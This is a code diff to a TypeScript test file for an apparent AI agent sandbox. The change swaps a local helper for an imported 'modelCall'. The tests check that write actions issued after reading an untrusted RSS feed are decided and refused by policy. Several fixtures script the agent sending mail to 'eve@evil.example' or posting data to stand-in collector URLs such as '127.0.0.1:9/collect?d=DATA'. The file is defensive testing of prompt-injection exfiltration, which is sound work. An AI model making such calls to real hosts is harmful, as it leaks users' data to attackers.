@@ -1,8 +1,7 @@
 import { sampleSmtpLogin } from "@plumbline/sandbox/mail/smtp-server.ts";
-import type { TurnCall } from "@plumbline/sandbox/model/behaviour.ts";
 import { beforeAll, beforeEach, expect, test } from "vitest";
 import { startedForFile } from "../support/started.ts";
-import { startAgent } from "./agent-under-test.ts";
+import { modelCall, startAgent } from "./agent-under-test.ts";
 
 const EVIL_URL = "https://127.0.0.1:9/collect";
 
@@ -16,11 +15,10 @@ beforeAll(async () => {
 beforeEach(() => agent.clear());
 
 const feedUrl = () => `${agent.sandbox.feeds.url}/rss.xml`;
-const call = (name: string, args: object): TurnCall => ({ name, arguments: JSON.stringify(args) });
-const readsFeed = () => call("feed_read", { url: feedUrl() });
+const readsFeed = () => modelCall("feed_read", { url: feedUrl() });
 
 test("a write of the same turn is decided after the reads", async () => {
-  const mail = call("email_send", { to: ["eve@evil.example"], subject: "s", text: "Hello." });
+  const mail = modelCall("email_send", { to: ["eve@evil.example"], subject: "s", text: "Hello." });
   const before = agent.sandbox.smtp.delivered.length;
   agent.turns({ calls: [mail, readsFeed()] }, { text: "Done." });
   const run = await agent.run(`Write a limerick about what you read in ${feedUrl()}.`);
@@ -45,7 +43,7 @@ test("addresses that the user did not name are left out of the text", async () =
 test.each([`${EVIL_URL}?d=DATA`, "https://collect.example/in#DATA"])(
   "a refused write to %s names its host, word for word in both places, and makes no link of it",
   async (url) => {
-    agent.turns({ calls: [readsFeed()] }, { calls: [call("http_post_json", { url, body: 1 })] });
+    agent.turns({ calls: [readsFeed()] }, { calls: [modelCall("http_post_json", { url, body: 1 })] });
     const run = await agent.run(`Write a limerick about what you read in ${feedUrl()}.`);
     const refused = run.of("tool_result").at(-1);
     const reason = refused?.is_error ? refused.refusal_reason : "";
@@ -67,8 +65,8 @@ test("a place that the user's words leave open is put to the model, which is sho
   agent.spans({ write_to: [hook] });
   agent.turns(
     { calls: [readsFeed()] },
-    { calls: [call("http_post_json", { url: hook, body: 1 })] },
-    { calls: [call("http_post_json", { url: `${hook}?d=1`, body: 1 })] },
+    { calls: [modelCall("http_post_json", { url: hook, body: 1 })] },
+    { calls: [modelCall("http_post_json", { url: `${hook}?d=1`, body: 1 })] },
     { text: "Done." },
   );
   const run = await agent.run(prompt);
@@ -83,7 +81,7 @@ test("a place that the user's words leave open is put to the model, which is sho
 test("a name of the policy's places leads to its destination", async () => {
   const policy = (body: object) => agent.call("PUT", "/api/v1/policy", { body });
   expect((await policy({ places: { "my boss": "ada@example.com" } })).status).toBe(200);
-  const mail = call("email_send", { to: ["ada@example.com"], subject: "s", text: "Hello." });
+  const mail = modelCall("email_send", { to: ["ada@example.com"], subject: "s", text: "Hello." });
   agent.turns({ calls: [readsFeed()] }, { calls: [mail] }, { text: "Done." });
   const named = await agent.run(`Read ${feedUrl()} and mail my boss a limerick about it.`);
   expect(named.of("tool_result").at(-1)).toMatchObject({ is_error: false });
